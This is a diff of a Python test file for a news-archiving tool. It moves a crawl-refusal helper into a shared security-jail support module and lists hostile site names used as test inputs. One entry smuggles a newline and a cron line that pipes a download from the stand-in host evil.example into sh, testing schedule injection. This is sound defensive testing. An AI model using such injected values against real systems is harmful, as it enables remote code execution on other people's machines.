@@ -6,8 +6,6 @@ rules for embedded IPv4 forms and schemes. Counts go to test-artifacts/faults.md
 from __future__ import annotations
 
 import os
-import subprocess
-import sys
 import time
 import unicodedata
 from pathlib import Path
@@ -23,8 +21,7 @@ from archive.schedule import lock_path, systemd_units
 from archive.sites import Site, load_sites
 from tests.faults.report import record
 from tests.fixtures import run_cli
-from tests.support import ROOT
-from tests.support.securityjail import Server, jail_env, story
+from tests.support.securityjail import Server, crawl_refused, jail_env, story
 
 EVIL_NAMES = [
     "harbor\n* * * * * curl evil.example | sh",
@@ -35,23 +32,6 @@ EVIL_NAMES = [
     ".",
     "",
 ]
-
-
-def crawl_refused(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
-    """A crawl in the jail whose every fetch is refused: it archives nothing, so it exits 1
-    (the exit-code contract of `newsarchive crawl`), saying so."""
-    proc = subprocess.run(
-        [sys.executable, "-m", "archive", "crawl", *args],
-        capture_output=True,
-        text=True,
-        timeout=240,
-        cwd=ROOT,
-        env=env,
-        check=False,
-    )
-    assert proc.returncode == 1, f"crawl exited {proc.returncode}:\n{proc.stderr[-3000:]}"
-    assert "Nothing was archived" in proc.stderr
-    return proc
 
 
 @pytest.mark.parametrize("name", EVIL_NAMES)
